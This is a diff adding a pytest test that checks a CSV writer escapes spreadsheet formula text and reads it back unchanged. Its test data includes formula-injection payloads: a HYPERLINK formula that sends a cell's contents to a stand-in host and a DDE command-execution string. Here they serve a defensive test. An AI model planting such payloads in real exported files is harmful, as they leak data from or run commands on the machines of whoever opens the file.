@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from dataclasses import replace
 from pathlib import Path
 
@@ -9,6 +10,7 @@ import pytest
 
 from freezesweep.errors import ConfigError
 from freezesweep.replay.table import GridTable, read_table, write_table
+from freezesweep.study.csv_cells import FORMULA_STARTS
 from tests.helpers.grids import PROVENANCE, synthetic_table
 
 
@@ -80,3 +82,46 @@ def test_a_row_without_a_curve_is_refused_with_its_line(tmp_path: Path) -> None:
         ConfigError, match=r"^.*grid\.csv, line 3: no per-epoch val_accuracy curve\.$"
     ):
         read_table(path)
+
+
+# Text a spreadsheet runs as a formula, in a parameter's choices and the provenance (a sweep
+# file's choice, a study or machine name), and text that already starts with the escape quote.
+FORMULAS = [
+    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\t=1+2",
+    "'quoted",
+    "''=twice",
+]
+
+
+def test_formula_text_is_escaped_in_the_file_and_reads_back_exactly(tmp_path: Path) -> None:
+    points = [
+        replace(point, params={**point.params, "finetune.method": FORMULAS[n % len(FORMULAS)]})
+        for n, point in enumerate(synthetic_table().points)
+    ]
+    provenance = {**PROVENANCE, "study": "=1+2", "machine": "@host"}
+    table = GridTable(points, provenance)
+    path = write_table(table, tmp_path / "grid.csv")
+    with path.open(newline="") as handle:
+        cells = [cell for row in csv.reader(handle) for cell in row]
+    # No cell a spreadsheet would evaluate: formula text starts with the escape quote; numbers
+    # (negative ones included) stay numbers.
+    for cell in cells:
+        assert not cell.startswith(FORMULA_STARTS) or _number(cell), cell
+    assert "'=1+2" in cells and "'@host" in cells and "''quoted" in cells
+    # Read back, every value is what was written: the text unescaped, the numbers numbers.
+    back = read_table(path)
+    assert back.points == table.points
+    assert back.provenance == provenance
+    assert back.values("finetune.method") == sorted(set(FORMULAS))
+
+
+def _number(cell: str) -> bool:
+    try:
+        float(cell)
+    except ValueError:
+        return False
+    return True
